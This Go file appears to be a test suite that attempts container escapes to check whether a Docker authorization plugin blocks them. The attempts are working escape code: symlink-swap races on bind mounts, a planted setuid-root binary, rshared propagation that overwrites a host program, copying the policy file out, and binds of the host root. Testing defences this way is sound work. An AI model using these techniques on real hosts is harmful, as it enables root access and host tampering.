package bypass

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
)

// plantedAttempts have a container of the signed image leave something in a
// folder of the host that it may write, where the host or the engine then
// follows or runs it. The folder is root's, in folders of root's: nobody but
// the container can change it.
var plantedAttempts = each("is writable", []attempt{
	{name: "folder swapped for a link, copied to", after: dropOwn, do: func(ctx context.Context, a *try) error {
		id, err := a.swapped(ctx, a.script("true"))
		if err != nil {
			return err
		}
		return a.copyTo(ctx, id, "/h"+a.scratch, "proof-"+a.nonce, 0o644, []byte("reached"))
	}},
	{name: "folder swapped for a link, copied from", after: dropOwn, do: func(ctx context.Context, a *try) error {
		id, err := a.swapped(ctx, a.script("true"))
		if err != nil {
			return err
		}
		return a.copyFrom(ctx, id, "/h"+a.PolicyFile())
	}, proof: made("copied")},
	{name: "folder swapped for a link, restarted by its policy", slow: true, after: dropOwn, do: func(ctx context.Context, a *try) error {
		return a.swappedLater(ctx, func() error {
			host := bind(a.own() + "/dir:/h")
			host["RestartPolicy"] = object{"Name": "always"}
			id, err := a.create(ctx, "victim", container(a.signed.Ref, a.again(), host))
			if err != nil {
				return err
			}
			_, err = a.call(ctx, http.MethodPost, "/containers/"+id+"/start", nil)
			return err
		})
	}},
	{name: "folder swapped for a link, started again by the swarm", slow: true, before: inSwarm, after: func(ctx context.Context, a *try) {
		endServices(ctx, a)
		dropOwn(ctx, a)
	}, do: func(ctx context.Context, a *try) error {
		return a.swappedLater(ctx, func() error {
			spec := a.mounting(object{"Type": "bind", "Source": a.own() + "/dir", "Target": "/h"}, a.again())
			spec["TaskTemplate"].(object)["RestartPolicy"] = object{"Condition": "any"}
			return a.service(ctx, spec)
		})
	}},
	{name: "folder swapped for a link, as a volume", after: dropOwn, do: func(ctx context.Context, a *try) error {
		if err := a.inOwn(ctx, "make", "busybox mkdir -p /w/dir"); err != nil {
			return err
		}
		if err := a.volume(ctx, object{"type": "none", "o": "bind", "device": a.own() + "/dir"}); err != nil {
			return err
		}
		id, err := a.create(ctx, "victim", container(a.signed.Ref, a.script("true"), bind(a.called("volume")+":/h:nocopy")))
		if err != nil {
			return err
		}
		if err := a.swap(ctx); err != nil {
			return err
		}
		return a.copyTo(ctx, id, "/h"+a.scratch, "proof-"+a.nonce, 0o644, []byte("reached"))
	}},
	{name: "program that is root for whoever runs it", after: dropOwn, do: func(ctx context.Context, a *try) error {
		program, err := os.ReadFile("/usr/bin/id")
		if err != nil {
			return err
		}
		id, err := a.create(ctx, "s", container(a.signed.Ref, a.script("busybox chmod 4755 /w/tool"), bind(a.own()+":/w")))
		if err != nil {
			return err
		}
		if err := a.copyTo(ctx, id, "/w", "tool", 0o755, program); err != nil {
			return err
		}
		return a.start(ctx, id)
	}, proof: func(ctx context.Context, a *try) string {
		run := exec.CommandContext(ctx, a.own()+"/tool", "-u")
		run.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}} // nobody
		if out, err := run.Output(); err != nil || strings.TrimSpace(string(out)) != "0" {
			return ""
		}
		return "root"
	}},
	{name: "file over a program of the host, by shared propagation", about: says("as rshared"), after: func(ctx context.Context, a *try) {
		_, _ = a.inEngine(ctx, "umount -R "+a.programs()) // it may not be mounted
		_ = os.RemoveAll(a.programs())
		dropOwn(ctx, a)
	}, before: func(ctx context.Context, a *try) error {
		// It stands for the root of a host: systemd shares that, the testbed does not.
		err := errors.Join(os.MkdirAll(a.programs(), 0o755), os.WriteFile(a.programs()+"/tool", []byte("good"), 0o755), os.MkdirAll(a.own(), 0o755), os.WriteFile(a.own()+"/evil", []byte("evil"), 0o755))
		if err != nil {
			return err
		}
		_, err = a.inEngine(ctx, "mount --bind "+a.programs()+" "+a.programs()+" && mount --make-shared "+a.programs())
		return err
	}, do: func(ctx context.Context, a *try) error {
		return a.run(ctx, container(a.signed.Ref, a.script("true"), object{"Binds": []string{a.programs() + ":/h:ro,rshared", a.own() + "/evil:/h/tool:ro"}}))
	}, proof: func(ctx context.Context, a *try) string {
		if text, err := a.inEngine(ctx, "cat "+a.programs()+"/tool"); err != nil || text != "evil" {
			return ""
		}
		return "evil"
	}},
	{name: "folder made where programs are", about: says("is not there"), after: func(_ context.Context, a *try) { _ = os.RemoveAll(a.programs()) }, do: func(ctx context.Context, a *try) error {
		return a.run(ctx, container(a.signed.Ref, a.script("true"), bind(a.programs()+"/made:/h:ro")))
	}, proof: func(_ context.Context, a *try) string {
		if _, err := os.Stat(a.programs() + "/made"); err != nil {
			return ""
		}
		return "made"
	}},
	{name: "engine's data under a folder's other name", about: says("gives away"), after: func(ctx context.Context, a *try) {
		_, _ = a.inEngine(ctx, "umount "+a.own()+"/other")
		dropOwn(ctx, a)
	}, before: func(ctx context.Context, a *try) error {
		_, err := a.inEngine(ctx, "mkdir -p "+a.own()+"/other && mount --bind "+a.Dir()+" "+a.own()+"/other")
		return err
	}, do: func(ctx context.Context, a *try) error {
		return a.run(ctx, container(a.signed.Ref, a.reach("[ -d /h/data/containers ]"), bind(a.own()+"/other:/h:ro")))
	}},
	reachFolder("folder of the plugin's records", "/var/log/docker-stig"),
	{name: "older container with the root of the host, copied to", about: says(`the bind of "/"`), before: withRoot, do: func(ctx context.Context, a *try) error {
		return a.copyTo(ctx, a.called("old"), "/h"+a.scratch, "proof-"+a.nonce, 0o644, []byte("reached"))
	}},
	{name: "older container with the root of the host, copied from", about: says(`the bind of "/"`), before: withRoot, do: func(ctx context.Context, a *try) error {
		return a.copyFrom(ctx, a.called("old"), "/h"+a.PolicyFile())
	}, proof: made("copied")},
})

// own is a folder of root's, in folders of root's.
func (a *try) own() string { return "/srv/" + a.nonce }

// programs is a folder among those of the host's programs.
func (a *try) programs() string { return "/usr/share/" + a.nonce }

func dropOwn(_ context.Context, a *try) { _ = os.RemoveAll(a.own()) }

// made shows what do has noted under a key.
func made(key string) shown {
	return func(_ context.Context, a *try) string { return a.made[key] }
}

// withRoot leaves a container of the signed image with the root of the host.
func withRoot(ctx context.Context, a *try) error {
	_, err := a.create(ctx, "old", container(a.signed.Ref, a.script("true"), bind("/:/h")))
	return err
}

// inOwn runs a script in the signed image with the own folder at /w.
func (a *try) inOwn(ctx context.Context, name, script string) error {
	return a.runAs(ctx, name, container(a.signed.Ref, a.script(script), bind(a.own()+":/w")))
}

func (a *try) runAs(ctx context.Context, name string, body any) error {
	id, err := a.create(ctx, name, body)
	if err != nil {
		return err
	}
	return a.start(ctx, id)
}

// swap puts a link to the root of the host in the place of the own folder's
// folder.
func (a *try) swap(ctx context.Context) error {
	return a.inOwn(ctx, "swap", "busybox rm -rf /w/dir; busybox ln -s / /w/dir")
}

// swapped makes a container with a folder that is a link by the time it is
// mounted.
func (a *try) swapped(ctx context.Context, program []string) (string, error) {
	var id string
	err := a.swappedLater(ctx, func() (err error) {
		id, err = a.create(ctx, "victim", container(a.signed.Ref, program, bind(a.own()+"/dir:/h")))
		return err
	})
	return id, err
}

// swappedLater makes the folder, has it used, and swaps it.
func (a *try) swappedLater(ctx context.Context, use func() error) error {
	if err := a.inOwn(ctx, "make", "busybox mkdir -p /w/dir"); err != nil {
		return err
	}
	if err := use(); err != nil {
		return err
	}
	return a.swap(ctx)
}

// again ends and is started again, until it has the root of the host.
func (a *try) again() []string {
	return a.script("if " + inHost(a) + "; then echo reached >/proof-" + a.nonce + "; exec sleep 1000; fi; sleep 2")
}

// copyTo is docker cp into a container.
func (a *try) copyTo(ctx context.Context, id, folder, name string, mode int64, content []byte) error {
	var body bytes.Buffer
	w := tar.NewWriter(&body)
	if err := w.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: mode, Size: int64(len(content))}); err != nil {
		return err
	}
	if _, err := w.Write(content); err != nil {
		return err
	}
	if err := w.Close(); err != nil {
		return err
	}
	_, err := a.raw(ctx, ask{method: http.MethodPut, target: "/containers/" + id + "/archive?path=" + folder, body: body.Bytes(), header: []string{"Content-Type: application/x-tar"}})
	return err
}

// copyFrom is docker cp of the policy file, and notes that it came.
func (a *try) copyFrom(ctx context.Context, id, name string) error {
	got, err := a.call(ctx, http.MethodGet, "/containers/"+id+"/archive?path="+name, nil)
	if bytes.Contains(got.body, []byte("content-trust")) {
		a.made["copied"] = "policy"
	}
	return err
}

// inEngine runs a script on the host as the engine sees it.
func (b *bed) inEngine(ctx context.Context, script string) (string, error) {
	pid, err := b.EnginePID()
	if err != nil {
		return "", err
	}
	out, err := exec.CommandContext(ctx, "nsenter", "--target", strconv.Itoa(pid), "--mount", "--", "/bin/sh", "-c", script).CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, out)
	}
	return string(out), nil
}
